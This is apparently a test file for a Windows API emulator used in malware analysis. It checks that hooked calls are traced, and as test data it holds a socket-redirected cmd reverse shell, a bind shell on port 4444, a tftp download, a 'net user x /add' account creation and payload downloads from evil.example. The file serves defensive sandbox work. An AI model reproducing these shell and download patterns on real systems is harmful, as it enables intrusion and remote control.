import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { encodeCString, encodeWideString, writePointer } from '../../../src/emulator/behaviour/guest.ts';
import { ScriptedEndpoint } from '../../../src/emulator/behaviour/network-endpoint.ts';
import { harness, RETURN_ADDRESS } from './api-harness.ts';

for (const bits of [32, 64] as const) {
  describe(`Windows API hooks, x${bits === 64 ? '64' : '86'}`, () => {
    it('socket, connect, send, recv decode their arguments and use the endpoint', () => {
      const endpoint = new ScriptedEndpoint({ incoming: [encodeCString('STAGE')] });
      const { call, process, sockaddr, put, cpu } = harness(bits, endpoint);
      const socket = Number(call('ws2_32.dll', 'WSASocketA', [2, 1, 6, 0, 0, 0]).value);
      const connect = call('ws2_32.dll', 'connect', [socket, sockaddr([10, 1, 2, 3], 8080), 16]);
      assert.equal(connect.value, 0n);
      // stdcall pops its arguments on x86; on x64 the caller cleans up
      assert.equal(connect.popped, bits === 32 ? 16 : 8);
      const message = put(encodeCString('hello'));
      assert.equal(call('ws2_32.dll', 'send', [socket, message, 5, 0]).value, 5n);
      const buffer = put(new Uint8Array(64));
      assert.equal(call('ws2_32.dll', 'recv', [socket, buffer, 64, 0]).value, 6n);
      assert.deepEqual(cpu.memory.read(buffer, 5), encodeCString('STAGE').subarray(0, 5));
      assert.equal(call('ws2_32.dll', 'recv', [socket, buffer, 64, 0]).value, 0n);
      const summaries = process.trace.summaries();
      assert.deepEqual(summaries, ['socket tcp', 'connect 10.1.2.3:8080', 'send 5 bytes to 10.1.2.3:8080', 'recv 6 bytes from 10.1.2.3:8080', 'recv 0 bytes from 10.1.2.3:8080']);
      assert.deepEqual(endpoint.transcript.connects, [{ socket, address: '10.1.2.3', port: 8080 }]);
    });

    it('bind, listen, accept record a bind shell', () => {
      const { call, process, sockaddr } = harness(bits);
      const socket = Number(call('ws2_32.dll', 'socket', [2, 1, 0]).value);
      call('ws2_32.dll', 'bind', [socket, sockaddr([0, 0, 0, 0], 4444), 16]);
      call('ws2_32.dll', 'listen', [socket, 5]);
      const accepted = Number(call('ws2_32.dll', 'accept', [socket, 0, 0]).value);
      assert.notEqual(accepted, socket);
      assert.deepEqual(process.trace.summaries().slice(1), ['bind 0.0.0.0:4444', 'listen 0.0.0.0:4444', 'accept on 0.0.0.0:4444 from 10.13.37.200:49152']);
    });

    it('CreateProcessA shows a shell whose standard handles are a socket', () => {
      const { call, process, sockaddr, put } = harness(bits);
      const socket = Number(call('ws2_32.dll', 'WSASocketA', [2, 1, 6, 0, 0, 0]).value);
      call('ws2_32.dll', 'connect', [socket, sockaddr([192, 168, 3, 205], 4444), 16]);
      const startupInfo = new Uint8Array(bits === 64 ? 104 : 68);
      const view = new DataView(startupInfo.buffer);
      view.setUint32(bits === 64 ? 0x3c : 0x2c, 0x101, true); // STARTF_USESTDHANDLES | STARTF_USESHOWWINDOW
      for (const offset of bits === 64 ? [0x50, 0x58, 0x60] : [0x38, 0x3c, 0x40]) view.setUint32(offset, socket, true);
      const information = put(new Uint8Array(24));
      const result = call('kernel32.dll', 'CreateProcessA', [0, put(encodeCString('cmd')), 0, 0, 1, 0, 0, 0, put(startupInfo), information]);
      assert.equal(result.value, 1n);
      assert.equal(result.popped, bits === 32 ? 44 : 8);
      assert.equal(process.trace.events.at(-1)!.summary, 'exec cmd (stdio: socket 192.168.3.205:4444)');
    });

    it('LoadLibrary and GetProcAddress hand out hooked stubs; unknown names still answer', () => {
      const { call, process, put, cpu } = harness(bits);
      const ws2 = Number(call('kernel32.dll', 'LoadLibraryW', [put(encodeWideString('WS2_32.DLL'))]).value);
      assert.equal(ws2, process.findModule('ws2_32.dll')!.base);
      const connect = Number(call('kernel32.dll', 'GetProcAddress', [ws2, put(encodeCString('connect'))]).value);
      assert.equal(connect, process.exportAddress('ws2_32.dll', 'connect'));
      assert.equal(Number(call('kernel32.dll', 'GetProcAddress', [ws2, 4]).value), connect, 'ordinal 4 is connect');
      const odd = Number(call('kernel32.dll', 'LoadLibraryA', [put(encodeCString('strange.dll'))]).value);
      const made = Number(call('kernel32.dll', 'GetProcAddress', [odd, put(encodeCString('DoThing'))]).value);
      assert.ok(made !== 0 && process.hookAt(made), 'an unknown export is a fresh hooked stub');
      assert.ok(cpu.hooks.has(made));
      assert.equal(call('kernel32.dll', 'GetModuleHandleA', [put(encodeCString('kernel32.dll'))]).value, BigInt(process.findModule('kernel32.dll')!.base));
    });

    it('VirtualAlloc maps guest memory and VirtualProtect changes it', () => {
      const { call, cpu, put } = harness(bits);
      const address = Number(call('kernel32.dll', 'VirtualAlloc', [0, 0x3000, 0x3000, 0x40]).value);
      assert.ok(address !== 0);
      assert.ok(cpu.memory.isMapped(address, 0x3000));
      const old = put(new Uint8Array(4));
      assert.equal(call('kernel32.dll', 'VirtualProtect', [address, 0x1000, 0x20, old]).value, 1n);
      assert.equal(cpu.memory.readU32(old), 0x40);
    });

    it('process creation, downloads and files decode their strings', () => {
      const { call, process, put } = harness(bits);
      call('kernel32.dll', 'WinExec', [put(encodeCString('cmd.exe /c tftp -i 10.0.0.9 GET a.exe')), 0]);
      call('shell32.dll', 'ShellExecuteW', [0, put(encodeWideString('open')), put(encodeWideString('a.exe')), put(encodeWideString('-x')), 0, 1]);
      call('msvcrt.dll', 'system', [put(encodeCString('net user x /add'))]);
      call('urlmon.dll', 'URLDownloadToFileA', [0, put(encodeCString('http://evil.example/a.exe')), put(encodeCString('C:\\a.exe')), 0, 0]);
      const internet = Number(call('wininet.dll', 'InternetOpenA', [put(encodeCString('Mozilla')), 0, 0, 0, 0]).value);
      call('wininet.dll', 'InternetOpenUrlA', [internet, put(encodeCString('http://evil.example/b.bin')), 0, 0, 0, 0]);
      const file = Number(call('kernel32.dll', 'CreateFileA', [put(encodeCString('C:\\x.exe')), 0x40000000, 0, 0, 2, 0, 0]).value);
      const written = put(new Uint8Array(4));
      call('kernel32.dll', 'WriteFile', [file, put(encodeCString('MZ')), 2, written, 0]);
      call('kernel32.dll', 'Sleep', [1500]);
      assert.deepEqual(process.trace.summaries(), [
        'exec cmd.exe /c tftp -i 10.0.0.9 GET a.exe',
        'exec a.exe -x',
        'exec net user x /add',
        'download http://evil.example/a.exe -> C:\\a.exe',
        'internet open agent Mozilla',
        'download http://evil.example/b.bin',
        'open C:\\x.exe for writing',
        'write 2 bytes to C:\\x.exe',
        'sleep 1500 ms',
      ]);
      assert.equal(process.trace.virtualTimeMs, 1500);
    });

    it('cdecl exports leave their arguments to the caller', () => {
      const { call, put } = harness(bits);
      const result = call('msvcrt.dll', 'system', [put(encodeCString('whoami'))]);
      assert.equal(result.popped, bits === 32 ? 4 : 8);
    });

    it('gethostbyname, inet_addr and htons answer like Winsock', () => {
      const { call, put, cpu } = harness(bits);
      assert.equal(call('ws2_32.dll', 'inet_addr', [put(encodeCString('192.168.1.2'))]).value, 0x0201a8c0n);
      assert.equal(call('ws2_32.dll', 'htons', [4444]).value, 0x5c11n);
      const hostent = Number(call('ws2_32.dll', 'gethostbyname', [put(encodeCString('c2.example'))]).value);
      const pointer = bits / 8;
      const list = Number(bits === 64 ? cpu.memory.readU64(hostent + 24) : BigInt(cpu.memory.readU32(hostent + 12)));
      const first = Number(bits === 64 ? cpu.memory.readU64(list) : BigInt(cpu.memory.readU32(list)));
      assert.deepEqual([...cpu.memory.read(first, 4)], [10, 13, 37, 1]);
      assert.equal(cpu.memory.readU16(hostent + pointer * 2), 2);
    });

    it('ExitProcess stops the run; unknown exports are recorded and answered', () => {
      const { process, cpu, put } = harness(bits);
      const address = process.exportAddress('advapi32.dll', 'RegSetValueExA')!;
      cpu.setRegister(bits === 64 ? 'rsp' : 'esp', BigInt(process.initialStackPointer));
      writePointer(cpu.memory, bits, process.initialStackPointer, RETURN_ADDRESS);
      if (bits === 64) cpu.setRegister('rcx', BigInt(put(encodeCString('x'))));
      assert.ok(process.handleHook(address));
      assert.match(process.trace.events.at(-1)!.summary, /^RegSetValueExA\(/);
      const exit = process.exportAddress('kernel32.dll', 'ExitProcess')!;
      writePointer(cpu.memory, bits, process.initialStackPointer, RETURN_ADDRESS);
      assert.ok(process.handleHook(exit));
      assert.equal(cpu.stopped?.reason, 'exit');
    });
  });
}
